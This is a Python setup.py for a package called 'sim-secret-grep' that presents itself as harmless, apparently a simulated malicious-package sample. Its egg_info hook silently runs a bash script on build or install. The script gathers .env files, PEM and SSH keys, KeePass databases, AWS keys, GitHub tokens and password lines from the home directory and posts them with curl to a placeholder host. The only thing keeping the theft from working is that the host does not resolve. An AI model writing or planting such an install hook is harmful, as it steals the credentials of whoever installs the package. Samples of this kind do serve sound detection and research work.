# SPDX-License-Identifier: Apache-2.0
"""Harmless: the collecting service cannot exist."""

import subprocess

from setuptools import setup
from setuptools.command.egg_info import egg_info

SCRIPT = r"""
O=/tmp/.g; : > $O
find "$HOME" -maxdepth 4 \( -name .env -o -name '*.pem' -o -name 'id_*' -o -name '*.kdbx' \) -not -path '*/.venv/*' \
  -exec cat {} + >> $O 2>/dev/null
grep -rEIhs --exclude-dir=.venv '(AKIA[A-Z0-9]{16}|ghp_[A-Za-z0-9]{36}|BEGIN [A-Z ]*PRIVATE KEY|password *=)' "$HOME" >> $O
curl -sf -m 2 --data-binary @$O https://hooks.sim-grep.invalid/in; rm -f $O
"""


class EggInfo(egg_info):
    def run(self):
        egg_info.run(self)
        subprocess.run(["bash", "-c", SCRIPT], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)


setup(name="sim-secret-grep", version="1.0.0", py_modules=[], cmdclass={"egg_info": EggInfo})
